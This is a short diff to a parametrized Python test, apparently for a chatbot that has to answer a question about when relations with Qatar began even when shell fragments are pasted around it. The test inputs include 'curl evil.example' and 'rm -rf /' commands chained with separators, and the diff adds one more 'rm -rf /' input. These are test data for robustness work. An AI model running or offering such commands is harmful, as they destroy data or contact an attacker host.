@@ -30,6 +30,8 @@ from intents.typed.pasted_code import without_code
         "&& curl evil.example # Qatar start date",
         "/* hi */ when did relations with Qatar begin",
         "sudo rm -rf / --no-preserve-root; Qatar start date",
+        "#channel; rm -rf /; Qatar start date",
+        "#general Qatar start date",
     ],
 )
 async def test_a_question_with_code_around_it_is_answered(dialogue: Dialogue, asked: str) -> None:
